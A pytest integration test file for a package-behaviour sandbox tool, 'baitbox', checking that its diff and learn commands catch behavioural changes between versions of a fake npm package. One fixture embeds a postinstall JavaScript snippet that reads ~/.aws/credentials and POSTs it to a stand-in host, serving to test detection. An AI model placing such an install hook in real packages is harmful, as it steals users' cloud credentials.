"""`baitbox diff` and `baitbox learn` in real guests: two runs of one version are the same, a new host is not, and a
thief teaches nothing."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.integration.command_line import Machine, orphans_come_here, still_running
from tests.packages import build
from tests.packages.registry import Registry
from tests.packages.settled import javascript

pytestmark = [pytest.mark.native, pytest.mark.together]

_NOISE = """
const folder = fs.mkdtempSync(`${os.tmpdir()}/words-`);
fs.mkdirSync(`${os.homedir()}/.words`, { recursive: true });
const name = [...crypto.getRandomValues(new Uint8Array(8))].map((one) => one.toString(16).padStart(2, "0")).join("");
fs.writeFileSync(`${os.homedir()}/.words/a1${name}.json`, String(process.pid));
fs.writeFileSync(`${folder}/${process.pid}`, "");
const answer = await fetch("https://lists.tidy-words.test/v1/words.json");
await answer.text();
"""
_MORE = 'await (await fetch("https://more.tidy-words.test/x", { method: "POST", body: "{}" })).text();\n'
_THEFT = """
const keys = fs.readFileSync(`${os.homedir()}/.aws/credentials`, "utf8");
await fetch("https://intake.tidy-words.test/", { method: "POST", body: keys });
"""


@pytest.fixture(scope="module")
def archives(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Three versions: one that asks its own host, one that asks another one too, and one that steals."""
    folder = tmp_path_factory.mktemp("versions")
    scripts = {"1.0.0": _NOISE, "1.1.0": _NOISE + _MORE, "2.0.0": _NOISE + _THEFT}
    return {
        version: build.npm(
            folder, "tidy-words", {"fill.js": javascript(script), "index.js": "module.exports = 1;\n"},
            version=version, scripts={"postinstall": "node fill.js"},
        )
        for version, script in scripts.items()
    }  # fmt: skip


@pytest.fixture
def machine(tmp_path: Path, archives: dict[str, Path]) -> Iterator[Machine]:
    made = Machine(tmp_path)
    with Registry(archives.values(), host="packages.test") as serving:
        made.use(serving.npm_url, serving.pypi_url, serving.own_url)
        with orphans_come_here():
            yield made
            assert still_running() == []
            assert made.left_behind() == []


def test_two_runs_are_the_same_and_a_new_host_is_new(machine: Machine, archives: dict[str, Path]) -> None:
    old, new = str(archives["1.0.0"]), str(archives["1.1.0"])
    same = machine.run("diff", "--quiet", "--format", "json", old, old)
    found = json.loads(same.stdout)
    assert (found["new"], found["gone"], found["verdict"]) == ([], [], "clean"), same.stdout
    assert same.code == 0, same.stderr
    other = machine.run("diff", "--quiet", "--format", "json", old, new)
    found = json.loads(other.stdout)
    new_ones = {(one["behaviour"]["verb"], one["behaviour"]["subject"]) for one in found["new"]}
    assert new_ones == {("request", "https://more.tidy-words.test/x"), ("lookup", "more.tidy-words.test")}, other.stdout
    known = {(one["behaviour"]["verb"], one["behaviour"]["subject"]) for one in found["known"]}
    assert {("request", "https://lists.tidy-words.test/v1/words.json"), ("write", "~/.words/<hash>.json")} <= known
    assert other.code == 10


def test_a_version_that_steals_is_malicious(machine: Machine, archives: dict[str, Path]) -> None:
    ended = machine.run("diff", "--quiet", str(archives["1.0.0"]), str(archives["2.0.0"]))
    assert ended.code == 11, ended.stderr
    assert "send aws body intake.tidy-words.test" in ended.stdout


def test_a_learned_and_reviewed_profile_makes_the_next_run_clean(machine: Machine, archives: dict[str, Path]) -> None:
    target = str(archives["1.0.0"])
    assert machine.run("check", "--quiet", target).code == 10
    learned = machine.run("learn", "--quiet", "--output", "mine", "--keep", "runs", target, target)
    assert learned.code == 0, learned.stderr
    sheet = machine.root / "mine" / "packages" / "npm" / "tidy-words.yaml"
    text = sheet.read_text()
    assert "ONLY IN ONE" not in text, text
    machine.run("check", "--quiet", "--profile", "mine", target).failed(2, "a proposal that nobody has reviewed")
    sheet.write_text(text.replace("proposed:", "reviewed:"))
    clean = machine.run("check", "--quiet", "--profile", "mine", target)
    assert clean.code == 0, clean.stdout
    assert machine.run("check", "--quiet", "--profile", "mine", str(archives["1.1.0"])).code == 10
    for recording in sorted((machine.root / "runs").rglob("*.jsonl")):
        assert machine.run("judge", "--profile", "mine", str(recording)).code == 0


def test_nothing_is_learned_from_a_thief(machine: Machine, archives: dict[str, Path]) -> None:
    ended = machine.run("learn", "--quiet", "--output", "mine", str(archives["1.0.0"]), str(archives["2.0.0"]))
    assert ended.code == 11
    assert "nothing is learned" in ended.stderr
    assert not (machine.root / "mine").exists()
